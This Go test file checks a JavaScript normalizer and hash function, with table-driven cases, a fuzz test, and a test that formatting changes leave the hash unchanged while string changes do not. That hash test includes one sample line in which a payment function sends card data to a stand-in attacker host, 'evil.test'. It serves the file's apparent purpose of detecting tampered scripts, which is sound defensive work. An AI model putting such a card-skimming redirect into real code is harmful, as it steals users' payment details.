package jsnorm

import (
	"bytes"
	"testing"
)

func TestNormalize(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, in, want string }{
		{"whitespace between tokens", "var  a = 1 ;\n\tfoo( a , b )", "var a=1;foo(a,b)"},
		{"comments", "/* licence */\nvar a = 1; // one\nb()", "var a=1;b()"},
		{"words keep one space", "return\n  typeof x", "return typeof x"},
		{"strings kept", `a = " x  /* y */ // z " + 'q  r'`, `a=" x  /* y */ // z "+'q  r'`},
		{"escaped quote", `a = "x\" // y"; b`, `a="x\" // y";b`},
		{"template text kept", "a = `x  ${ b + 1 }  // y`", "a=`x  ${b+1}  // y`"},
		{"nested template", "`a${ `b${ c }` }`", "`a${`b${c}`}`"},
		{"braces inside template code", "`${ {a: 1}.a }`", "`${{a:1}.a}`"},
		{"regex kept", "x = / a  b /g.test(s) // c", "x=/ a  b /g.test(s)"},
		{"regex with slash in class", "x = /[/]  /; y", "x=/[/]  /;y"},
		{"regex after return", "return /a b/", "return/a b/"},
		{"division", "a = b / c / d", "a=b/c/d"},
		{"division after paren", "(a) / 2 / (b)", "(a)/2/(b)"},
		{"plus plus stays apart", "a + +b; c - -d; e++ + f", "a+ +b;c- -d;e++ +f"},
		{"number dot", "1 .toString(); a . b", "1 .toString();a.b"},
		{"minified equals pretty", "function f(a){return a+1}", "function f(a){return a+1}"},
		{"unterminated string keeps its line break", "'a\n'b'", "'a\n'b'"},
		{"empty", "", ""},
		{"only comments", "// a\n/* b */", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := string(Normalize([]byte(tt.in))); got != tt.want {
				t.Errorf("Normalize(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestSumIgnoresFormatting: a re-minified and re-commented copy hashes the same; a change to
// a string does not.
func TestSumIgnoresFormatting(t *testing.T) {
	t.Parallel()
	pretty := "/*! lib v1 */\nfunction pay(card) {\n  // send it\n  return fetch('/pay', {body: card});\n}\n"
	mini := "function pay(card){return fetch('/pay',{body:card});}"
	if Sum([]byte(pretty)) != Sum([]byte(mini)) {
		t.Errorf("pretty and minified differ:\n%s\n%s", Normalize([]byte(pretty)), Normalize([]byte(mini)))
	}
	evil := "function pay(card){return fetch('//evil.test/pay',{body:card})}"
	if Sum([]byte(evil)) == Sum([]byte(mini)) {
		t.Error("a changed string hashes the same")
	}
}

// FuzzNormalize: normalizing is idempotent, never lengthens the source, and comments and
// white space added between two statements change nothing.
func FuzzNormalize(f *testing.F) {
	for _, s := range []string{
		"var a = 1; // x", "a = `x${ b }y`", "x = /[/]/g", "'a\n'b'", "`${'a\n}`", "a / / b /",
		"return /a/.test(b)", "a++ + ++b", "1 .x", "/* a */ b /* c", "`${", "\\u0061 b", "x = {a: `${1}`}",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		once := Normalize(src)
		if len(once) > len(src) {
			t.Fatalf("Normalize(%q) = %q, longer than its input", src, once)
		}
		if twice := Normalize(once); !bytes.Equal(once, twice) {
			t.Fatalf("not idempotent: %q -> %q -> %q", src, once, twice)
		}
		// A statement added with comments and blank lines around it normalizes as the same
		// statement added bare.
		bare := Normalize(append([]byte("x;"), once...))
		padded := Normalize(append([]byte("/* c */\n  x ; // d\n"), once...))
		if !bytes.Equal(bare, padded) {
			t.Fatalf("formatting counted: %q vs %q (source %q)", bare, padded, src)
		}
	})
}
